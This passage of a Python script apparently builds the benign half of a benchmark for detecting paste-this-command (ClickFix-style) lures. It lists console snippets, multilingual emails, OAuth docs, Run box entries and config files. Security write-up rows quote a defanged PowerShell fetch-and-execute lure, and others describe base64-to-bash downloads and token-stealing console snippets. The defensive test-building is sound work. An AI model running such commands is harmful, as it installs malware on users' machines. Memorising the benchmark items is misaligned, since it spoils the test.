        "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
        "navigator.serviceWorker.getRegistrations().then(rs => console.log(rs.map(r => r.scope)))",
    ),
    (
        "https://github.com/GoogleChrome/web-vitals",
        "console.table(performance.getEntriesByType('navigation'))",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
        "document.designMode = document.designMode === 'on' ? 'off' : 'on'",
    ),
    (
        "https://stackoverflow.com/questions/1248081",
        "[window.innerWidth, window.innerHeight, devicePixelRatio]",
    ),
    (
        "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
        "Intl.DateTimeFormat().resolvedOptions().timeZone",
    ),
    ("https://stackoverflow.com/questions/10960092", "$$('input[type=checkbox]:checked').length"),
]:
    ok(CONSOLE, CON, page, command)

# --- Security write-ups quoting lures (defanged or described) -------------------------------------

PROSE = "prose-security"
for page, text in [
    (
        "https://blog.secteam.example/2026/clickfix-wave",
        'The fake CAPTCHA asks the visitor to press Win+R, paste and press Enter. The clipboard held `powershell -w h -c "irm hxxps://verify[.]bad-cdn[.]test/a | iex"`. Block mshta and PowerShell from explorer.exe children.',
    ),
    (
        "https://blog.secteam.example/2026/filefix",
        "FileFix variants tell users to paste a 'file path' into the Explorer address bar; the real command sits before a long run of spaces and a # comment. Train staff: a file path never needs to be pasted.",
    ),
    (
        "https://blog.secteam.example/2026/consentfix",
        "ConsentFix: the victim signs in on a real Microsoft page, then is told to copy the localhost URL (with ?code=) back into the lure page. Treat any request to paste a URL containing code= as account takeover.",
    ),
    (
        "https://blog.secteam.example/2026/macos-amos",
        "The macOS campaign told visitors to open Terminal and paste a base64 string piped to bash. We decoded it to a curl download of an AMOS build; IOCs are in the appendix (defanged).",
    ),
    (
        "https://news.example/security/device-code-phishing",
        "Device-code phishing: attackers send a Teams message asking you to enter a code at microsoft.com/devicelogin. If you did not start a sign-in yourself, never enter such a code.",
    ),
    (
        "https://help.bank.example/security/scams",
        "We will never ask you to call a number shown in a browser pop-up, to install remote-access software, or to read out a one-time code. If in doubt, call the number on the back of your card.",
    ),
    (
        "https://wiki.corp.example/security/awareness/clickfix",
        "Hinweis der IT-Sicherheit: Webseiten, die Sie auffordern, Windows+R zu drücken und etwas einzufügen, sind Betrug. Schließen Sie die Seite und melden Sie sie an security@corp.example.",
    ),
    (
        "https://blog.secteam.example/2026/hunting-runmru",
        "Hunt query: look at HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU for entries containing 'powershell', 'mshta' or 'curl' followed by '\\1'.",
    ),
    (
        "https://blog.secteam.example/2026/kongtuke",
        "KongTuke injects a script into compromised WordPress sites; the overlay copies a command to the clipboard and shows three steps. Indicators: hxxps://kt-example[.]test/js.php?device=... (defanged).",
    ),
    (
        "https://blog.secteam.example/2026/discord-verify",
        "Fake 'verification bots' on Discord ask members to open DevTools and paste a snippet that reads the account token. Discord will never ask you to paste code into the console.",
    ),
]:
    ok(PROSE, UNK, page, text)

# --- Genuine messages with phone numbers (12 languages) ----------------------------------------

MAIL = "support-mail"
for page, text in [
    (
        "https://mail.example/inbox/1",
        "Hi Sam, your appointment at Harbour Dental is confirmed for Tuesday 10:30. To reschedule, call us on +44 20 7946 0958.",
    ),
    (
        "https://mail.example/inbox/2",
        "Hallo Frau Weber, Ihr Paket wird morgen zwischen 9 und 12 Uhr geliefert. Bei Fragen erreichen Sie unseren Kundendienst unter 030 12345678.",
    ),
    (
        "https://mail.example/inbox/3",
        "Bonjour, votre réservation au restaurant est confirmée pour samedi 20h, 4 personnes. Pour toute modification : 04 91 23 45 67.",
    ),
    (
        "https://mail.example/inbox/4",
        "Hola Ana, tu cita en el taller está confirmada para el jueves a las 9:00. Si no puedes venir, llámanos al 912 345 678.",
    ),
    (
        "https://mail.example/inbox/5",
        "Ciao Marco, la riunione di condominio è spostata a lunedì alle 18. Per informazioni chiama l'amministratore al 06 1234 5678.",
    ),
    (
        "https://mail.example/inbox/6",
        "Olá João, sua consulta foi marcada para sexta às 14h. Em caso de dúvida, ligue para (11) 3456-7890.",
    ),
    (
        "https://mail.example/inbox/7",
        "Beste klant, uw bestelling is verzonden. Track & trace volgt morgen. Vragen? Bel ons op 020 123 4567.",
    ),
    (
        "https://mail.example/inbox/8",
        "Dzień dobry, przypominamy o wizycie w przychodni w środę o 8:15. Odwołanie wizyty: 22 123 45 67.",
    ),
    (
        "https://mail.example/inbox/9",
        "Merhaba, siparişiniz kargoya verildi. Sorularınız için müşteri hizmetlerimizi 0212 123 45 67 numarasından arayabilirsiniz.",
    ),
    (
        "https://mail.example/inbox/10",
        "Здравствуйте! Ваш заказ готов к выдаче в пункте самовывоза. Телефон пункта: +7 495 123-45-67.",
    ),
    (
        "https://mail.example/inbox/11",
        "山田様 ご予約ありがとうございます。変更の際は 03-1234-5678 までお電話ください。",
    ),
    (
        "https://mail.example/inbox/12",
        "您好，您预约的维修服务将于周三上午进行，如需更改请致电 010-1234-5678。",
    ),
]:
    ok(MAIL, UNK, page, text)

# --- OAuth and device-flow documentation ----------------------------------------------------------

OAUTH = "oauth-docs"
for page, text in [
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-auth-code-flow",
        "The authorization response redirects to your redirect URI, for example http://localhost/myapp/?code=AwABAAAAvPM1KaPl...&state=12345. Your app then redeems the code at the /token endpoint.",
    ),
    (
        "https://developers.google.com/identity/protocols/oauth2/native-app",
        "For desktop apps, use a loopback redirect such as http://127.0.0.1:8400; the browser returns the authorization code to your local listener.",
    ),
    (
        "https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps#device-flow",
        "The device flow: your app shows a user code and asks the user to enter it at https://github.com/login/device.",
    ),
    (
        "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
        "az login --use-device-code --tenant contoso.onmicrosoft.com",
    ),
    (
        "https://www.rfc-editor.org/rfc/rfc8252",
        "Loopback interface redirection: native apps that are able to open a port on the loopback network interface without needing special permissions can use the loopback interface to receive the OAuth redirect.",
    ),
    (
        "https://cloud.google.com/sdk/gcloud/reference/auth/login",
        "gcloud auth login --no-launch-browser",
    ),
]:
    ok(OAUTH, UNK, page, text)

# --- Run box and Explorer bar entries with arguments ----------------------------------------------

RUNBOX = "run-box-plain"
for text in [
    "notepad C:\\inetpub\\wwwroot\\web.config",
    "mmc compmgmt.msc",
    "explorer shell:startup",
    "explorer shell:AppsFolder",
    "control /name Microsoft.PowerOptions /page pagePlanSettings",
    "control mmsys.cpl,,1",
    "SystemPropertiesAdvanced.exe",
    "ms-settings:windowsupdate-action",
    "ms-settings:clipboard",
    "shutdown /r /t 0",
    "cmd /k ipconfig /all",
    "powershell -NoExit -Command Get-NetAdapter",
    "msinfo32 /report %USERPROFILE%\\Desktop\\sysinfo.txt",
    "perfmon /res",
    "eventvwr /c:Application",
    "wt -d C:\\src",
    "code C:\\src\\website",
    "mstsc /admin",
    "sndvol -f",
    "mmc devmgmt.msc",
    "taskmgr /7 /startup",
    "%LOCALAPPDATA%\\Temp",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe -P",
    "winword /n /safe",
    "outlook.exe /cleanviews",
]:
    ok(RUNBOX, RUN, None, text)

EXPLORER = "explorer-entry"
for text in [
    "C:\\Users\\Public\\Pictures\\Sample Pictures",
    "%APPDATA%\\Microsoft\\Windows\\Recent",
    "\\\\fs01.corp.example\\Projects\\2027",
    "shell:::{BB06C0E4-D293-4f75-8A90-CB05B6477EEE}",
    "shell:Common Administrative Tools",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Support",
    "%ProgramData%\\Microsoft\\Windows\\Start Menu\\Programs",
    "ftp://ftp.gnu.org/gnu/",
    "\\\\nas.home.example\\photos\\2026",
    "D:\\Backups\\Laptop\\2026-12",
]:
    ok(EXPLORER, EXP, None, text)

# --- Config, source and log snippets ----------------------------------------------------------------

CONFIG = "config-code"
for page, text in [
    (
        "https://github.com/example-org/api/blob/main/.github/workflows/ci.yml",
        "- uses: actions/setup-python@v5\n  with:\n    python-version: '3.12'\n- run: pip install -e .[dev] && pytest -q",
    ),
    (
        "https://github.com/example-org/api/blob/main/Dockerfile",
        'FROM python:3.12-slim\nRUN pip install --no-cache-dir uv\nCOPY . /app\nRUN uv sync --frozen\nCMD ["uv", "run", "app"]',
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'eval "$(starship init zsh)"\neval "$(zoxide init zsh)"\nexport PATH="$HOME/.local/bin:$PATH"',
    ),
    (
        "https://github.com/example-org/infra/blob/main/nginx.conf",
        "server {\n  listen 443 ssl;\n  server_name app.example;\n  location / { proxy_pass http://127.0.0.1:8080; }\n}",
    ),
    (
        "https://github.com/example-org/api/blob/main/Makefile",
        "test:\n\tpytest -q\nlint:\n\truff check . && mypy src",
    ),
    (
        None,
        "2026-12-06T10:14:02Z ERROR worker[311] job 88123 failed: connection reset by peer (retry 2/5)",
    ),
    (
        "https://github.com/example-org/web/blob/main/package.json",
        '{\n  "scripts": {\n    "dev": "vite",\n    "build": "tsc && vite build",\n    "postinstall": "husky"\n  }\n}',
    ),
    (
        "https://github.com/example-org/infra/blob/main/cloud-init.yaml",
        "#cloud-config\npackages:\n  - docker.io\nruncmd:\n  - systemctl enable --now docker",
    ),
    (
        "https://github.com/example-org/win/blob/main/profile.ps1",
        "Import-Module posh-git\nSet-PSReadLineOption -PredictionSource History\noh-my-posh init pwsh | Invoke-Expression",
    ),
    (
        "https://github.com/example-org/api/blob/main/docker-compose.yml",
        "services:\n  db:\n    image: postgres:17\n    environment:\n      POSTGRES_PASSWORD: example\n    ports: ['5432:5432']",
    ),
]:
    ok(CONFIG, "other", page, text)


# ----------------------------------------------------------------------------------------------
# Checks and writing: bench/blind/blindkit.py (shared from the seventh set on)
# ----------------------------------------------------------------------------------------------


def lure_rows() -> list[dict[str, str]]:
    return blindkit.lure_rows("blind8", LURES)


def benign_rows() -> list[dict[str, str]]:
    return blindkit.benign_rows("blind8", BENIGN)


def main() -> None:
    blindkit.main("blind8", LURES, BENIGN, LURES_OUT, BENIGN_OUT)


if __name__ == "__main__":
    main()
